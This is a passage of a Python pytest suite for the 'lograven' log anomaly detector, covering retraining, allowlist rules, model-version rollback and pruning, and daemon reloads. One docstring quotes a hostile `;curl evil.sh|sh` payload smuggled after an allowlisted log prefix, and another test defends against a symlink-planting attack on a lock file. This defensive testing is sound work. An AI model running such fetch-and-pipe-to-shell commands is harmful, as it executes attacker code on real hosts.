"""The corrective action of seed 003, end to end through the CLI; allowlisting; model versions."""
from __future__ import annotations

import errno
import dataclasses
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest

from lograven.alerts import Alert, DetectorHit
from lograven.allowlist import Allowlist, line_shape, new_rule, rule_from_alert
from lograven.errors import LogravenError
from lograven.generator import LogGenerator, write_log
from lograven.modelstore import ModelStore

ROOT = Path(__file__).resolve().parents[1]
DEFAULT_MODEL = ROOT / "models" / "default"


def _lograven(*args: str, **kw) -> subprocess.CompletedProcess:
    r = subprocess.run([sys.executable, "-m", "lograven", *args], capture_output=True, text=True, **kw)
    return r


def _score(model: Path, log: Path) -> list[dict]:
    r = _lograven("score", "--model", str(model), str(log))
    assert r.returncode == 0, r.stderr
    return [json.loads(x) for x in r.stdout.splitlines()]


def _rates(verdicts: list[dict], labelled) -> dict[str, tuple[int, int]]:
    """Per anomaly kind: (lines where the expected detector fired, lines of that kind)."""
    out: dict[str, list[int]] = {}
    for i, (v, g) in enumerate(zip(verdicts, labelled)):
        if g.kind == "normal":
            continue
        c = out.setdefault(g.kind, [0, 0])
        c[1] += 1
        if g.kind == "forbidden_transition":
            # the break in the sequence may be noticed on the first lines of the offending burst
            c[0] += any("sequence" in verdicts[j]["detectors"] for j in range(i, min(i + 4, len(verdicts))))
        else:
            c[0] += "unknown_type" in v["detectors"]
    normal = [v for v, g in zip(verdicts, labelled) if g.kind == "normal"]
    out["normal_sequence_fp"] = [sum("sequence" in v["detectors"] for v in normal), len(normal)]
    return {k: tuple(v) for k, v in out.items()}


@pytest.mark.slow
def test_seed_corrective_action_through_the_cli(tmp_path):
    """train (cron->sshd never happens) -> flagged -> learn a log that has it -> not flagged; ids stable."""
    train_log = tmp_path / "normal.log"
    write_log(train_log, LogGenerator(seed=1).lines(40_000))
    model = tmp_path / "model"
    r = _lograven("train", "--out", str(model), str(train_log))
    assert r.returncode == 0, r.stderr
    before_types = json.loads(_lograven("types", "--json", str(model)).stdout)

    test_lines = LogGenerator(seed=7).generate(12_000, anomaly_rate=0.01)
    test_log = tmp_path / "test.log"
    write_log(test_log, test_lines)
    before = _rates(_score(model, test_log), test_lines)
    caught, total = before["forbidden_transition"]
    assert total >= 20 and caught >= 0.7 * total, before
    assert before["unseen_type"][0] == before["unseen_type"][1], before

    # the corrective action: new normal data in which the transition happens
    new_log = tmp_path / "new-normal.log"
    write_log(new_log, LogGenerator(seed=3, skipped_transition=None).lines(10_000))
    learnt = tmp_path / "model2"
    r = _lograven("learn", "--json", "--model", str(model), "--out", str(learnt), str(new_log))
    assert r.returncode == 0, r.stderr
    summary = json.loads(r.stdout)
    assert summary["parent"] and summary["learned_lines"] == 10_000

    after = _rates(_score(learnt, test_log), test_lines)
    assert after["forbidden_transition"][0] <= 0.1 * total, after  # no longer flagged
    assert after["unseen_type"][0] == after["unseen_type"][1], after  # other anomalies still are
    assert after["malformed"][0] == after["malformed"][1], after
    fp, n = after["normal_sequence_fp"]
    assert fp <= 0.005 * n, after
    after_types = {t["id"]: t for t in json.loads(_lograven("types", "--json", str(learnt)).stdout)}
    for t in before_types:  # unchanged type ids
        assert after_types[t["id"]]["template"] == t["template"]
        assert after_types[t["id"]]["regex"] == t["regex"] or t["id"] in after_types


@pytest.mark.slow
@pytest.mark.skipif(not (DEFAULT_MODEL / "manifest.json").exists(), reason="models/default is missing")
def test_learn_from_alerts_and_new_types(tmp_path):
    """--from-alerts learns an alerted unknown message as a new type (context read back from the file)."""
    log = tmp_path / "messages"
    lines = LogGenerator(seed=4).lines(300)
    odd = "Jun  9 07:00:00 web01 backupd[42]: nightly backup of /srv finished in 3512 seconds"
    # anyone's line in the context read around the alert: learned as a type, but not vouched for
    lines[-20] = "Jun  9 06:59:40 web01 mallory: cache sync pushed 4211 records to 10.9.8.7"
    write_log(log, lines + [odd] * 3)
    alerts = tmp_path / "alerts.jsonl"
    offset = sum(len(x.encode()) + 1 for x in lines)
    alerts.write_text(
        json.dumps({"id": "a1", "file": str(log), "offset": offset, "stream": str(log), "line": odd, "type_id": -1,
                    "detectors": [{"name": "unknown_type"}]}) + "\n"
    )  # fmt: skip
    out = tmp_path / "m2"
    cfg = tmp_path / "config.yaml"  # the daemon's: context is read only from its sources' files
    cfg.write_text(f"sources: [{{paths: ['{tmp_path}/mess*']}}]\n")
    r = _lograven("learn", "--json", "--config", str(cfg), "--model", str(DEFAULT_MODEL), "--out", str(out),
                  "--from-alerts", str(alerts), "--alert", "a1")  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert "outside the sources" not in r.stderr, r.stderr
    s = json.loads(r.stdout)
    assert s["new_types"], s
    # what now counts as normal is shown, and the threshold it replaces
    assert any("backupd" in t["template"] or "nightly backup" in t["template"] for t in s["new_type_templates"]), s
    assert [t["id"] for t in s["new_type_templates"]] == s["new_types"] and s["parent_autoencoder_threshold"] > 0
    score = _score(out, tmp_path / "messages")
    assert score[-1]["type"] in s["new_types"] and "unknown_type" not in score[-1]["detectors"]
    # a type learned from a few lines is vouched for by the operator: not a rare type for the sequence detector
    from lograven.bundle import load_bundle
    from lograven.detector import Detector

    learned = load_bundle(out)
    new_type = score[-1]["type"]
    assert score[-1]["type_count"] < 5 and learned.types.get(new_type).learned
    assert not Detector(learned).rare_type[new_type]
    # the alert's own message is vouched for, a line merely near it is not: it stays judged by where it comes
    other = learned.types.classify("cache sync pushed 4211 records to 10.9.8.7")
    assert other in s["new_types"] and other != new_type
    assert learned.types.get(new_type).vouched and not learned.types.get(other).vouched
    assert Detector(learned).unjudged_type[new_type] and not Detector(learned).unjudged_type[other]
    assert "sequence" not in score[-1]["detectors"], score[-3:]
    # nor does it alert for coming elsewhere later: the GRU saw it in one place (before, these lines alerted)
    later = LogGenerator(seed=11).lines(1200)
    for i in range(100, 1200, 100):
        later.insert(i, f"Jun 10 07:0{i // 200}:00 web01 backupd[{i}]: nightly backup of /srv finished in {i + 3000} seconds")
    write_log(tmp_path / "later.log", later)
    rows = [(r, x) for r, x in zip(_score(out, tmp_path / "later.log"), later) if "backupd" in x]
    assert len(rows) == 11 and all(r["type"] in s["new_types"] and r["sequence_p"] is not None for r, _ in rows)
    assert not [r for r, _ in rows if r["detectors"]], rows
    # the autoencoder's vocabulary grew by the new words, keeping the old ids and weights' shapes consistent
    from lograven.bundle import load_bundle

    old, new = load_bundle(DEFAULT_MODEL).autoencoder, load_bundle(out).autoencoder
    assert "backupd" in s["new_tokens"] and new.tokenizer_.vocab_size == old.tokenizer_.vocab_size + len(s["new_tokens"])
    assert new.weights_["emb"].shape[0] == new.tokenizer_.vocab_size == new.weights_["out_k"].shape[1]
    text = "sshd Accepted publickey for alice from <IP> port <N> ssh<N>"
    assert new.tokenizer_.encode(text) == old.tokenizer_.encode(text)


def _routine_log(tmp_path: Path, n: int) -> tuple[Path, list[str]]:
    """`<tmp_path>/log/messages` with `n` ordinary lines, and the lines."""
    (tmp_path / "log").mkdir()
    messages = tmp_path / "log" / "messages"
    lines = [f"Jun  9 07:00:{i:02d} web01 app[1]: routine work item {i}" for i in range(n)]
    messages.write_text("\n".join(lines) + "\n")
    return messages, lines


def _alert(**kw) -> Alert:
    base = dict(id="x1", time="t", host="h", file="/var/log/messages", offset=0, stream="s",
                line="Jun  9 07:00:00 web01 kernel: /dev/sda1 out of diskspace", type_id=-1, template=None,
                detectors=[DetectorHit("unknown_type", 1.0, 0.0)])  # fmt: skip
    base.update(kw)
    return Alert(**base)


def test_allowlist_rules_match_and_expire(tmp_path):
    al = Allowlist(tmp_path / "allow.json")
    a = _alert()
    assert not al.matches(a)
    al.add(rule_from_alert(a.to_dict()))
    al._checked = 0
    assert al.matches(a)
    # same message, other numbers: same shape, suppressed; another unknown message is not
    assert al.matches(_alert(line=a.line.replace("07:00:00", "08:11:12").replace("sda1", "sda2")))
    assert not al.matches(_alert(line="Jun  9 07:00:00 web01 kernel: something else entirely"))
    assert not al.matches(_alert(file="/var/log/other"))  # scoped to the alert's file
    seq = _alert(type_id=33, line="x", detectors=[DetectorHit("sequence", 0.01, 0.1)], previous_type_id=35)
    al.add(rule_from_alert(seq.to_dict(), any_file=True))
    assert al.matches(seq) and al.matches(_alert(type_id=33, line="y", detectors=seq.detectors, previous_type_id=35, file="/x"))
    assert not al.matches(_alert(type_id=33, line="y", detectors=seq.detectors, previous_type_id=12))
    # a rare-type alert is about the type wherever it comes: the rule does not pin the previous type
    rare = _alert(type_id=44, line="r", detectors=[DetectorHit("sequence", 2.0, 5.0, "count<5 (rare type)")], previous_type_id=35)
    r_rule = rule_from_alert(rare.to_dict())
    assert r_rule.type_id == 44 and r_rule.from_type is None and r_rule.detector == "sequence"
    al.add(r_rule)
    assert al.matches(_alert(type_id=44, line="r2", detectors=rare.detectors, previous_type_id=12))
    # expired rules do nothing
    al2 = Allowlist(tmp_path / "allow2.json")
    r = new_rule(type_id=5, expires_in=0.001)
    al2.add(r)
    time.sleep(0.01)
    assert not al2.matches(_alert(type_id=5, line="z", detectors=[DetectorHit("autoencoder", 3.0, 2.0)]))
    # reload from disk, removal, corrupt file
    al3 = Allowlist(tmp_path / "allow.json")
    assert len(al3.rules) == 3
    al3.remove(al3.rules[0].id)
    assert len(Allowlist(tmp_path / "allow.json").rules) == 2
    (tmp_path / "bad.json").write_text("{nope")
    with pytest.raises(LogravenError, match="bad.json"):
        Allowlist(tmp_path / "bad.json").reload(strict=True)
    assert line_shape("a1b22") == "a0b0"


def test_allow_cli_by_alert_id_list_remove(tmp_path):
    alerts = tmp_path / "alerts.jsonl"
    a = _alert(id="abc123")
    alerts.write_text(json.dumps(a.to_dict()) + "\n")
    allow = tmp_path / "allow.json"
    r = _lograven("allow", "abc123", "--alerts", str(alerts), "--allowlist", str(allow), "--expires", "7d", "--comment", "disk test")
    assert r.returncode == 0, r.stderr
    rules = json.loads(allow.read_text())["rules"]
    assert len(rules) == 1 and rules[0]["source_alert"] == "abc123" and rules[0]["expires"]
    r = _lograven("allow", "--list", "--allowlist", str(allow))
    assert rules[0]["id"] in r.stdout and "disk test" in r.stdout
    r = _lograven("allow", "--transition", "3,4", "--allowlist", str(allow))
    assert r.returncode == 0 and "transition 3 -> 4" in r.stdout
    r = _lograven("allow", "nope", "--alerts", str(alerts), "--allowlist", str(allow))
    assert r.returncode == 1 and "no alert with id" in r.stderr
    r = _lograven("allow", "abc123", "--alerts", str(alerts), "--allowlist", str(allow), "--expires", "0s")
    assert r.returncode == 1 and "must be longer than 0" in r.stderr  # not a rule that never expires
    assert len(json.loads(allow.read_text())["rules"]) == 2
    r = _lograven("allow", "--remove", rules[0]["id"], "--allowlist", str(allow))
    assert r.returncode == 0
    assert len(json.loads(allow.read_text())["rules"]) == 1
    # a type the daemon's model does not have would allow nothing: refused, with where to look
    if (DEFAULT_MODEL / "msgtypes.json").exists():
        cfg = tmp_path / "c.yaml"
        cfg.write_text(f"model: {DEFAULT_MODEL}\nsources: [{{paths: [/var/log/messages]}}]\n")
        r = _lograven("allow", "--type", "9999", "--config", str(cfg), "--allowlist", str(allow))
        assert r.returncode == 1 and "type 9999 is not in the model" in r.stderr and "lograven types" in r.stderr, r.stderr
        r = _lograven("allow", "--transition", "1,9998", "--config", str(cfg), "--allowlist", str(allow))
        assert r.returncode == 1 and "type 9998 is not in the model" in r.stderr, r.stderr
        r = _lograven("allow", "--type", "2", "--config", str(cfg), "--allowlist", str(allow))
        assert r.returncode == 0, r.stderr
        assert len(json.loads(allow.read_text())["rules"]) == 2


def test_allow_finds_an_alert_in_the_rotated_alerts_file(tmp_path):
    """The shipped logrotate rotates alerts.jsonl weekly: `allow ALERT_ID` for last week's alert said
    "no alert with id" without a word about alerts.jsonl.1 (review, 2026-12-07). It looks in the plain
    rotated copies beside the file, and names the compressed ones it cannot read."""
    import gzip

    from lograven.allowlist import find_alert

    alerts = tmp_path / "alerts.jsonl"
    alerts.write_text(json.dumps(_alert(id="new1").to_dict()) + "\n")
    (tmp_path / "alerts.jsonl.1").write_text(json.dumps(_alert(id="week1").to_dict()) + "\n")
    with gzip.open(tmp_path / "alerts.jsonl.2.gz", "wt") as f:
        f.write(json.dumps(_alert(id="week2").to_dict()) + "\n")
    (tmp_path / "alerts.jsonlx").write_text(json.dumps(_alert(id="other").to_dict()) + "\n")  # not a copy
    (tmp_path / "alerts.jsonl.lock").write_text(json.dumps(_alert(id="other").to_dict()) + "\n")  # nor this
    assert find_alert(alerts, "new1")["id"] == "new1"
    assert find_alert(alerts, "week1")["id"] == "week1"
    with pytest.raises(LogravenError, match=r"no alert with id 'week2' \(nor in alerts.jsonl.1\); older alerts are in "
                       r"alerts.jsonl.2.gz: decompress it and give --alerts FILE"):
        find_alert(alerts, "week2")
    with pytest.raises(LogravenError, match="no alert with id 'other'"):
        find_alert(alerts, "other")
    allow = tmp_path / "allow.json"
    r = _lograven("allow", "week1", "--alerts", str(alerts), "--allowlist", str(allow))
    assert r.returncode == 0, r.stderr
    assert json.loads(allow.read_text())["rules"][0]["source_alert"] == "week1"
    # a copy that cannot be read is said as such, not as searched (EACCES simulated: the tests run as root)
    import lograven.allowlist as al

    (tmp_path / "alerts.jsonl-20261130").write_text("")
    real = al._alert_in

    def alert_in(path, alert_id):
        if path.name.endswith("-20261130"):
            raise PermissionError(errno.EACCES, "Permission denied")
        return real(path, alert_id)

    al._alert_in = alert_in
    try:
        with pytest.raises(LogravenError, match=r"\(nor in alerts.jsonl.1\); .*; cannot read alerts.jsonl-20261130 "
                           r"\(Permission denied\)"):
            find_alert(alerts, "week2")
    finally:
        al._alert_in = real


def test_allowlist_rules_keep_their_types_templates_across_a_retrain(tmp_path, caplog, monkeypatch, capsys):
    """A rule names a type by its number, and a model trained again numbers its types anew: a rule made
    for `Failed password ...` then silently suppressed alerts on an unrelated udev message. A rule keeps
    the templates of its types and applies only where the alert's type still has them, says once when
    an alert shows the rule is stale, and `allow ALERT_ID` says so at once for an alert of an older model."""
    from lograven import cli

    seq = _alert(type_id=21, template="Failed password for <*> from <*> port <*> ssh2", line="x",
                 detectors=[DetectorHit("sequence", 0.01, 0.1)], previous_type_id=7, previous_template="Accepted <*>")
    rule = rule_from_alert(Alert.from_dict(seq.to_dict()).to_dict())
    assert (rule.type_id, rule.from_type, rule.template, rule.from_template) == (21, 7, seq.template, "Accepted <*>")
    al = Allowlist(tmp_path / "allow.json")
    al.add(rule)
    al._checked = 0
    assert al.matches(seq)
    assert Allowlist(tmp_path / "allow.json").valid_rules[0].template == seq.template  # saved and read back
    # after a retrain, type 21 is another message: not suppressed, and said once
    udev = _alert(type_id=21, template="creating device node '/udev/vcsa<*>'", line="y", detectors=seq.detectors,
                  previous_type_id=7, previous_template="Accepted <*>")
    with caplog.at_level("WARNING", logger="lograven.allowlist"):
        assert not al.matches(dataclasses.replace(udev, file="/var/log/other"))  # not the rule's file: nothing said
        assert "no longer applies" not in caplog.text
        assert not al.matches(udev) and not al.matches(udev)
    said = [r.getMessage() for r in caplog.records if "no longer applies" in r.getMessage()]
    assert len(said) == 1 and rule.id in said[0] and "/udev/vcsa" in said[0] and "Failed password" in said[0], said
    # the previous type renumbered: the transition is another one
    assert not al.matches(dataclasses.replace(seq, previous_template="Stopped <*>"))
    # a rule of an earlier version (no templates) matches by number as before
    al2 = Allowlist(tmp_path / "old.json")
    al2.add(new_rule(type_id=21, from_type=7, detector="sequence"))
    al2._checked = 0
    assert al2.matches(udev)
    # and a rule without templates is saved without the fields, which 0.3.0 would refuse as unknown
    assert not {"template", "from_template"} & set(json.loads((tmp_path / "old.json").read_text())["rules"][0])
    # the CLI: --type records the model's template; an alert of an older model is said to allow nothing now
    if not (DEFAULT_MODEL / "msgtypes.json").exists():
        pytest.skip("models/default is missing")
    from lograven.bundle import load_types

    templates = {t.id: t.template for t in load_types(DEFAULT_MODEL).types_}
    cfg = tmp_path / "c.yaml"
    cfg.write_text(f"model: {DEFAULT_MODEL}\nsources: [{{paths: [/var/log/messages]}}]\n")
    allow = tmp_path / "cli.json"
    assert cli.main(["allow", "--transition", "2,3", "--config", str(cfg), "--allowlist", str(allow)]) == 0
    saved = json.loads(allow.read_text())["rules"][0]
    assert saved["template"] == templates[3] and saved["from_template"] == templates[2]
    capsys.readouterr()
    assert cli.main(["allow", "--list", "--allowlist", str(allow)]) == 0
    assert f"transition 2 -> 3 ('{templates[3][:40]}" in capsys.readouterr().out  # which message the rule is for
    alerts = tmp_path / "alerts.jsonl"
    alerts.write_text(json.dumps({**seq.to_dict(), "id": "old1", "type_id": 3, "previous_type_id": 2,
                                  "model_version": "v0001"}) + "\n")  # fmt: skip
    capsys.readouterr()
    assert cli.main(["allow", "old1", "--alerts", str(alerts), "--config", str(cfg), "--allowlist", str(allow)]) == 0
    err = capsys.readouterr().err
    assert "came from model v0001" in err and "it was trained again" in err and "Failed password" in err, err
    alerts.write_text(json.dumps({**seq.to_dict(), "id": "new1", "type_id": 3, "template": templates[3],
                                  "previous_type_id": 2, "previous_template": templates[2]}) + "\n")  # fmt: skip
    assert cli.main(["allow", "new1", "--alerts", str(alerts), "--config", str(cfg), "--allowlist", str(allow)]) == 0
    assert "warning" not in capsys.readouterr().err


@pytest.mark.skipif(not (DEFAULT_MODEL / "manifest.json").exists(), reason="models/default is missing")
def test_model_store_versions_and_rollback(tmp_path):
    store = ModelStore(tmp_path / "models")
    for _ in range(3):
        p = store.new_version_path()
        shutil.copytree(DEFAULT_MODEL, p, dirs_exist_ok=True)
        store.set_current(p.name)
    assert store.versions() == ["v0001", "v0002", "v0003"] and store.current_name() == "v0003"
    # a corrupt version is refused and skipped by rollback
    victim = tmp_path / "models" / "v0002" / "sequence.npz"
    data = bytearray(victim.read_bytes())
    data[100] ^= 0xFF
    victim.write_bytes(bytes(data))
    with pytest.raises(LogravenError, match="sequence.npz"):
        store.set_current("v0002")
    assert store.rollback() == "v0001" and store.current_name() == "v0001"
    r = _lograven("models", "list", "--dir", str(tmp_path / "models"))
    assert r.returncode == 0 and "* v0001" in r.stdout and "BROKEN" in r.stdout
    r = _lograven("models", "rollback", "--dir", str(tmp_path / "models"), "--to", "v0003")
    assert r.returncode == 0 and store.current_name() == "v0003"
    r = _lograven("models", "list", "--dir", str(tmp_path / "modles"))  # a typo is not an empty store
    assert r.returncode == 1 and "modles: no such directory" in r.stderr and "Traceback" not in r.stderr
    # `current` at a version whose manifest is gone, or at one deleted: rollback goes to the valid one before
    # it (it had refused: "no current version to roll back from"); `models list` shows the broken one
    half = tmp_path / "models" / "v0004"
    half.mkdir()
    (half / "sequence.npz").write_bytes(b"x")
    os.unlink(tmp_path / "models" / "current")
    os.symlink("v0004", tmp_path / "models" / "current")
    r = _lograven("models", "list", "--dir", str(tmp_path / "models"))
    assert "* v0004  BROKEN:" in r.stdout and "manifest.json: missing" in r.stdout, r.stdout
    assert store.rollback() == "v0003"
    os.unlink(tmp_path / "models" / "current")
    os.symlink("v0009", tmp_path / "models" / "current")
    assert store.rollback() == "v0003"
    os.unlink(tmp_path / "models" / "current")
    with pytest.raises(LogravenError, match="no current version to roll back from; make one current with"):
        store.rollback()


def test_switching_current_is_one_at_a_time(tmp_path):
    """From a review: two `learn` runs (or one and the daemon's relearning) finishing together both checked
    that `current` was still their parent, then both switched: the second's version lacked the first's
    lines. The check and the switch are held under the store's switch lock."""
    import threading

    store = _store_of(tmp_path, 3)
    store.set_current = lambda name: os.symlink(name, tmp_path / "models" / "current")  # no bundle to verify
    order = []
    inside = threading.Event()

    def first():
        with store.switching():
            inside.set()
            time.sleep(0.5)
            order.append("first done")

    t = threading.Thread(target=first)
    t.start()
    inside.wait(5)
    with store.switching():
        order.append("second in")
    t.join(5)
    assert order == ["first done", "second in"]


def test_the_switch_lock_never_follows_a_link_nor_changes_another_file(tmp_path, caplog):
    """From a review: root runs `models rollback` in the service user's directory; a `.switch.lock` planted
    there as a link to a root file was opened through it and made 0644. It is opened without following
    links (a link is said, and the switch goes on without the lock)."""
    store = _store_of(tmp_path, 1)
    secret = tmp_path / "secret"
    secret.write_text("x")
    os.chmod(secret, 0o600)
    os.symlink(secret, tmp_path / "models" / ".switch.lock")
    with store.switching():
        pass
    assert stat_mode(secret) == 0o600
    assert "cannot open its lock" in caplog.text
    os.unlink(tmp_path / "models" / ".switch.lock")
    old = os.umask(0o077)
    try:
        with store.switching():
            pass
    finally:
        os.umask(old)
    assert stat_mode(tmp_path / "models" / ".switch.lock") == 0o644  # the daemon's user can lock it too


def stat_mode(path) -> int:
    return os.stat(path).st_mode & 0o777


def _store_of(tmp_path, n: int) -> ModelStore:
    """A model store with `n` small versions (a manifest-only stand-in is enough for pruning)."""
    store = ModelStore(tmp_path / "models")
    for i in range(n):
        p = store.new_version_path()
        (p / "manifest.json").write_text(json.dumps({"id": f"m{i}"}))
    return store


def test_prune_keeps_the_newest_current_and_protected_versions(tmp_path, monkeypatch):
    """Old versions go, oldest first; `current`, a protected version (the one a daemon runs) and a
    reserved directory being saved into stay; a half-finished earlier prune is cleaned up."""
    store = _store_of(tmp_path, 6)
    monkeypatch.setattr(store, "current_name", lambda: "v0002")  # an admin rolled back to v0002
    reserved = store.new_version_path()  # v0007: a save in progress, no manifest yet
    (tmp_path / "models" / ".deleting-v0000-1").mkdir()  # left by a prune that stopped half-way
    assert store.prune(2, protect=("v0003",)) == ["v0001", "v0004"]
    assert store.versions() == ["v0002", "v0003", "v0005", "v0006"] and reserved.is_dir()
    assert not list((tmp_path / "models").glob(".deleting-*"))
    assert store.prune(10) == [] and store.new_version_path().name == "v0008"  # numbers are never reused
    # what a killed save left, a day later: an empty reserved version and a bundle's temporary directory
    old = time.time() - 2 * 86400
    (tmp_path / "models" / ".v0009.tmp-abc").mkdir()
    (tmp_path / "models" / ".v0009.tmp-abc" / "sequence.npz").write_bytes(b"x")
    for p in (tmp_path / "models" / ".v0009.tmp-abc", tmp_path / "models" / "v0008"):
        os.utime(p, (old, old))
    store.prune(10)
    assert not (tmp_path / "models" / ".v0009.tmp-abc").exists() and not (tmp_path / "models" / "v0008").exists()
    assert reserved.is_dir()  # v0007: reserved an instant ago, a save may be under way


def test_models_prune_command(tmp_path):
    store = _store_of(tmp_path, 4)
    os.symlink("v0001", tmp_path / "models" / "current")
    r = _lograven("models", "prune", "--dir", str(tmp_path / "models"), "--keep", "2")
    assert r.returncode == 0 and "deleted v0002; keeping the newest 2 and current (v0001)" in r.stdout, r.stdout + r.stderr
    assert store.versions() == ["v0001", "v0003", "v0004"]  # current is kept beyond the 2
    r = _lograven("models", "prune", "--dir", str(tmp_path / "models"), "--keep", "0")
    assert r.returncode == 1 and "--keep 0: keep at least 1 version" in r.stderr
    r = _lograven("models", "list", "--dir", str(tmp_path / "models"), "--keep", "2")
    assert r.returncode == 1 and "--keep is for `lograven models prune`" in r.stderr
    (store.new_version_path() / "manifest.json").write_text("{}")  # v0005
    cfg = tmp_path / "c.yaml"
    cfg.write_text(f"state_dir: {tmp_path}\nlearn: {{keep_versions: 2}}\n")
    r = _lograven("models", "prune", "--config", str(cfg))
    assert r.returncode == 0 and "deleted v0003" in r.stdout, r.stdout + r.stderr
    assert store.versions() == ["v0001", "v0004", "v0005"]
    # the version the daemon runs (noted in its state_dir), which is not `current` (a damaged current it
    # refused): never deleted (a review saw prune delete the last working model)
    from lograven.modelstore import record_running

    (store.new_version_path() / "manifest.json").write_text("{}")  # v0006
    (store.new_version_path() / "manifest.json").write_text("{}")  # v0007
    os.unlink(tmp_path / "models" / "current")
    os.symlink("v0007", tmp_path / "models" / "current")
    record_running(tmp_path, tmp_path / "models" / "v0004")
    r = _lograven("models", "prune", "--config", str(cfg), "--keep", "1")
    assert r.returncode == 0, r.stdout + r.stderr
    assert store.versions() == ["v0004", "v0007"], r.stdout


def test_switching_current_on_a_full_disk_says_so_and_keeps_the_old_one(tmp_path, monkeypatch):
    """`lograven learn` and `models rollback` end by pointing `current` at a version: a full disk or a
    read-only store there is a one-line error that says which version is still current and what to run."""
    store = ModelStore(tmp_path / "models")
    for _ in range(2):
        p = store.new_version_path()
        shutil.copytree(DEFAULT_MODEL, p, dirs_exist_ok=True)
    store.set_current("v0001")

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "symlink", full)
    with pytest.raises(LogravenError, match=r"current: cannot point it at v0002 \(No space left on device\); it still "
                                            r"points at v0001\. .*models rollback --dir .* --to v0002"):
        store.set_current("v0002")
    assert store.current_name() == "v0001" and not list((tmp_path / "models").glob(".current.tmp-*"))


def _daemon_on_a_store(tmp_path):
    """A started daemon whose model is a store holding the default model as v0001: (store, its root, daemon)."""
    from test_daemon_e2e import Daemon

    models = tmp_path / "models"
    store = ModelStore(models)
    shutil.copytree(DEFAULT_MODEL, store.new_version_path(), dirs_exist_ok=True)
    store.set_current("v0001")
    d = Daemon(tmp_path, models)
    write_log(d.logs / "messages", [])
    d.start()
    return store, models, d


@pytest.mark.slow
@pytest.mark.skipif(not (DEFAULT_MODEL / "manifest.json").exists(), reason="models/default is missing")
@pytest.mark.parametrize("fix", ["repair", "rollback"])
def test_a_refused_current_version_is_not_retried_until_it_changes(tmp_path, fix):
    """`current` pointed at a damaged version: the daemon refuses it once, keeps its model, and does not
    re-verify it every 2 seconds (an ERROR, a bundle hash and a RELOADING/READY each time); repaired,
    it is switched to. Pointed back at the running version, the reload gauge is 1 again: it stayed 0
    (LogravenReloadFailed firing) until some other version came."""
    store, models, d = _daemon_on_a_store(tmp_path)
    p2 = store.new_version_path()
    shutil.copytree(DEFAULT_MODEL, p2, dirs_exist_ok=True)
    victim = p2 / "sequence.npz"
    good = victim.read_bytes()
    damaged = bytearray(good)
    damaged[100] ^= 0xFF
    victim.write_bytes(bytes(damaged))
    os.symlink("v0002", models / ".cur")  # as a hand-made switch would: set_current refuses a damaged version
    os.replace(models / ".cur", models / "current")
    assert "lograven_config_reload_failures_total 1.0" in d.wait_metric("lograven_config_reload_failures_total 1.0")
    time.sleep(5)  # two and more checks of `current` later
    text = d.metrics()
    assert "lograven_config_reload_failures_total 1.0" in text and "lograven_config_last_reload_successful 0.0" in text
    if fix == "repair":
        victim.write_bytes(good)
    else:  # back to the version that runs
        os.symlink("v0001", models / ".cur")
        os.replace(models / ".cur", models / "current")
    text = d.wait_metric("lograven_config_last_reload_successful 1.0")
    assert "lograven_config_last_reload_successful 1.0" in text and "lograven_config_reload_failures_total 1.0" in text
    assert d.stop() == 0
    err = (tmp_path / "daemon.err").read_text()
    assert err.count("reload rejected") == 1 and "tries it again when `current` or that version changes" in err
    assert ("current version is v0001 again, the running model" in err) == (fix == "rollback")


@pytest.mark.slow
@pytest.mark.skipif(not (DEFAULT_MODEL / "manifest.json").exists(), reason="models/default is missing")
def test_daemon_switches_version_without_losing_lines(tmp_path):
    """A running daemon picks up a new `current` version (here via SIGHUP) with no line lost."""
    from test_daemon_e2e import _append, _marker_lines

    store, models, d = _daemon_on_a_store(tmp_path)
    gen = LogGenerator(seed=8)
    _append(d.logs / "messages", gen.lines(100) + _marker_lines("h", 3))
    alerts = d.wait_for_alerts({"marker-h-0", "marker-h-1", "marker-h-2"})
    v1 = alerts[-1]["model_version"]
    # a new version: a copy with a different manifest id (what `lograven learn` produces, minus the training time)
    p2 = store.new_version_path()
    shutil.copytree(DEFAULT_MODEL, p2, dirs_exist_ok=True)
    m = json.loads((p2 / "manifest.json").read_text())
    m["id"] = m["id"] + "-v2"
    from lograven.bundle import _manifest_digest

    m["manifest_sha256"] = _manifest_digest(m)
    (p2 / "manifest.json").write_text(json.dumps(m))
    # keep writing while switching
    _append(d.logs / "messages", _marker_lines("i", 3))
    store.set_current(p2.name)
    d.proc.send_signal(signal.SIGHUP)
    _append(d.logs / "messages", gen.lines(50) + _marker_lines("j", 3))
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        alerts = d.alert_lines()
        if any(a["model_version"].endswith("-v2") for a in alerts) and all(
            any(f"marker-{t}-{i}" in a["line"] for a in alerts) for t in "ij" for i in range(3)
        ):
            break
        _append(d.logs / "messages", _marker_lines("k", 1))
        time.sleep(0.3)
    assert d.stop() == 0
    alerts = d.alert_lines()
    assert any(a["model_version"].endswith("-v2") for a in alerts), "new version not picked up"
    assert v1 and not v1.endswith("-v2")
    for t in "hij":
        for i in range(3):
            assert any(f"marker-{t}-{i}" in a["line"] for a in alerts), f"lost marker-{t}-{i}"
    err = (tmp_path / "daemon.err").read_text()
    assert "reload" in err.lower()


@pytest.mark.slow
def test_bad_reload_keeps_running(tmp_path):
    """SIGHUP with a broken config: rejected, counted, the old one keeps running."""
    from test_daemon_e2e import Daemon, _append, _marker_lines

    if not (DEFAULT_MODEL / "manifest.json").exists():
        pytest.skip("models/default is missing")
    d = Daemon(tmp_path, DEFAULT_MODEL)
    write_log(d.logs / "messages", [])
    d.start()
    good = d.cfg.read_text()
    d.cfg.write_text(good + "\nbogus_key: 1\n")
    d.proc.send_signal(signal.SIGHUP)
    text = d.wait_metric("lograven_config_reload_failures_total 1.0")
    assert "lograven_config_reload_failures_total 1.0" in text
    assert "lograven_config_last_reload_successful 0.0" in text
    _append(d.logs / "messages", _marker_lines("z", 2))
    d.wait_for_alerts({"marker-z-0", "marker-z-1"})
    assert d.stop() == 0
    assert "bogus_key" in (tmp_path / "daemon.err").read_text()


def test_a_long_unknown_line_is_identified_by_all_of_it(tmp_path):
    """An unknown line's pattern was its first 512 masked characters: a payload after them rode on an
    allowlist rule, or a de-duplicated alert, made for the same start (an audit: `GET /static/.../x`
    allowlisted, then the same start with `;curl evil.sh|sh` suppressed). The rest is now fingerprinted,
    masked (numbers, ids, addresses as values) to 4,096 characters. Rules made before, which hold the first
    512 characters only, no longer match a longer line: matching them by their start would let any line
